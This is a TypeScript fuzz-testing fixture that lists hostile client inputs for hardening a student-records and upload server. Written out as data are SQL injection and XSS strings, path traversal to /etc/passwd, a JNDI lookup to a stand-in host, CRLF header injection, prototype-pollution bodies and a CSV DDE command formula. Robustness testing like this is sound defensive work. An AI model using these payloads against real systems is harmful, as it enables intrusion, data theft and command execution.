import fc from "fast-check";

/**
 * Values a hostile or broken client sends. Each is something a real client has sent some server:
 * lengths past every limit, characters databases and parsers choke on, the wrong type, markup and
 * SQL, paths that climb out of a folder, numbers past what a column or a double holds.
 */

const LONG = 100_000;

/** Strings that are each a known way to break something. */
export const hostileStrings: readonly string[] = [
  "",
  " ",
  "a".repeat(LONG),
  "é".repeat(LONG),
  "\u0000",
  "a\u0000b",
  "\uD800",
  "x\uDFFFy",
  "\uFEFF",
  "\u202Eevil",
  "' or 1=1 --",
  "'; drop table submissions; --",
  '" or ""="',
  "1) union select email, password_hash from users --",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%00",
  "%",
  "%E0%A4%A",
  "${jndi:ldap://example.test/a}",
  "{{7*7}}",
  '=HYPERLINK("http://example.test")',
  "__proto__",
  "constructor",
  "NaN",
  "Infinity",
  "-1",
  "0",
  "1e308",
  "99999999999999999999999",
  "true",
  "null",
  "[]",
  "{}",
  "🙂".repeat(1000),
  "\r\nSet-Cookie: ets_session=stolen",
];

/** Numbers past the ranges schemas and columns expect. */
export const hostileNumbers: readonly number[] = [
  -1,
  0,
  -0,
  1.5,
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_SAFE_INTEGER,
  2 ** 31,
  2 ** 63,
  1e308,
  -1e308,
  Number.MIN_VALUE,
];

/** A JSON value of the wrong type, or the right type with a hostile inside. */
export const hostileJsonValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...hostileStrings),
  fc.constantFrom(...hostileNumbers),
  fc.constantFrom(null, true, false, [], {}, [null], { "": "" }, [["a"]], { length: -1 }),
  fc.array(fc.constantFrom(...hostileStrings), { maxLength: 3 }),
  fc.dictionary(
    fc.constantFrom(...hostileStrings.slice(0, 30)),
    fc.constantFrom(...hostileStrings),
    {
      maxKeys: 3,
    },
  ),
  fc.jsonValue({ maxDepth: 3 }),
);

/** Path segments, raw (already as they appear in a URL), that try to climb or confuse routing. */
export const hostilePathSegments: readonly string[] = [
  "..%2F..%2Fetc%2Fpasswd",
  "..%2f..%2f..%2fwindows%2fwin.ini",
  "%2e%2e%2f%2e%2e%2f",
  "..",
  "%00",
  "a%00b",
  "%ED%A0%80",
  "%C0%AF",
  "%FF%FE",
  "%E0%A4%A",
  "%",
  "%ZZ",
  "-1",
  "0",
  "1.5",
  "1e3",
  "0x10",
  "99999999999999999999999",
  "9007199254740993",
  "NaN",
  "Infinity",
  "%20",
  "%27%20or%201%3D1%20--",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "a".repeat(5000),
  encodeURIComponent("é".repeat(50)),
  "%F0%9F%99%82",
];

/** JSON nested this deep, as raw text (a parsed copy would be as deep in the test's own stack). */
export function deepJson(depth: number, open = "[", close = "]"): string {
  return open.repeat(depth) + close.repeat(depth);
}

/** An object nested `depth` times under one key, as raw text. */
export function deepObjectJson(depth: number, key: string): string {
  return `{"${key}":`.repeat(depth) + "1" + "}".repeat(depth);
}

/** Raw request bodies sent with a JSON content type that are not the JSON the route wants. */
export const hostileRawBodies: readonly (string | Buffer)[] = [
  deepJson(10_000),
  deepObjectJson(10_000, "a"),
  deepObjectJson(10_000, "email"),
  deepObjectJson(2_000, "__proto__"),
  '{"__proto__":{"admin":true},"email":"a@b.test"}',
  '{"constructor":{"prototype":{"admin":true}}}',
  "",
  " ",
  "{",
  "}",
  '{"email":',
  "null",
  "0",
  "-1",
  "1e400",
  '"a string"',
  "[]",
  "[1,2,3]",
  "\u0000",
  '{"a":1}garbage',
  "{'single':'quotes'}",
  "NaN",
  `{"email":"${"a".repeat(300_000)}"}`,
  `[${"1,".repeat(100_000)}1]`,
  `{${Array.from({ length: 20_000 }, (_, i) => `"k${i}":${i}`).join(",")}}`,
  // Invalid UTF-8: a lone continuation byte, an overlong slash, a truncated sequence, a surrogate.
  Buffer.from([0x7b, 0x22, 0x65, 0x22, 0x3a, 0x22, 0x80, 0x22, 0x7d]),
  Buffer.from([0x7b, 0x22, 0x65, 0x22, 0x3a, 0x22, 0xc0, 0xaf, 0x22, 0x7d]),
  Buffer.from([0x7b, 0x22, 0x65, 0x22, 0x3a, 0x22, 0xe0, 0xa4, 0x22, 0x7d]),
  Buffer.from([0x7b, 0x22, 0x65, 0x22, 0x3a, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x7d]),
  Buffer.from([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
];

/** Content types a client may claim, right or wrong, for any body. */
export const contentTypes: readonly (string | undefined)[] = [
  "application/json",
  "application/json; charset=utf-8",
  "application/json; charset=latin1",
  "application/JSON",
  "text/plain",
  "application/x-www-form-urlencoded",
  "application/octet-stream",
  "application/xml",
  "multipart/form-data",
  "multipart/form-data; boundary=",
  "application/json, text/plain",
  ";;;",
  "",
  undefined,
];

/** Bytes of files someone might attach to a multipart route. */
export const uploadContents: readonly { name: string; bytes: Buffer }[] = [
  {
    name: "records.csv",
    bytes: Buffer.from("StudentName,IndexNumber,Programme\r\nAma,1234567,MA\r\n"),
  },
  { name: "records.csv", bytes: Buffer.from('StudentName,IndexNumber\r\n"never closed\r\n') },
  { name: "records.csv", bytes: Buffer.from([0xff, 0xfe, 0x00, 0x41, 0xc0]) },
  { name: "empty.csv", bytes: Buffer.alloc(0) },
  { name: "header.csv", bytes: Buffer.from("<script>alert(1)</script>,' or 1=1 --\r\n") },
  { name: "wide.csv", bytes: Buffer.from(`${"a,".repeat(50_000)}a\r\n`) },
  {
    name: "nul.csv",
    bytes: Buffer.from(
      "StudentName,IndexNumber,Programme\r\nA\u0000ma,1234\u00005678,M\u0000A\r\n",
    ),
  },
  {
    // A valid row but for the NUL in its text cells.
    name: "nul-cells.csv",
    bytes: Buffer.from(
      "StudentName,IndexNumber,Programme,Contact\r\nA\u0000ma,10799001,M\u0000A,0\u00001\r\n",
    ),
  },
  {
    name: "hostile.csv",
    bytes: Buffer.from(
      "StudentName,IndexNumber,Programme,Contact\r\n" +
        "\"' or 1=1 --\",12345678,<script>alert(1)</script>,=cmd|' /C calc'!A0\r\n" +
        `${"x".repeat(100_000)},87654321,MA,\r\n` +
        "\uD800,11112222,\uDFFF,\r\n",
    ),
  },
  {
    name: "tall.csv",
    bytes: Buffer.from(`StudentName,IndexNumber,Programme\r\n${"a,b,c\r\n".repeat(200_000)}`),
  },
  { name: "fake.xlsx", bytes: Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00, 0x00]) },
  { name: "thesis.pdf", bytes: Buffer.from("%PDF-1.7\n%%EOF\n") },
  { name: "thesis.pdf", bytes: Buffer.from("not a pdf at all") },
  { name: "../../etc/passwd", bytes: Buffer.from("root:x:0:0") },
  { name: "\u0000.pdf", bytes: Buffer.from("%PDF-1.4\n") },
  { name: "a".repeat(5000), bytes: Buffer.from("x") },
];
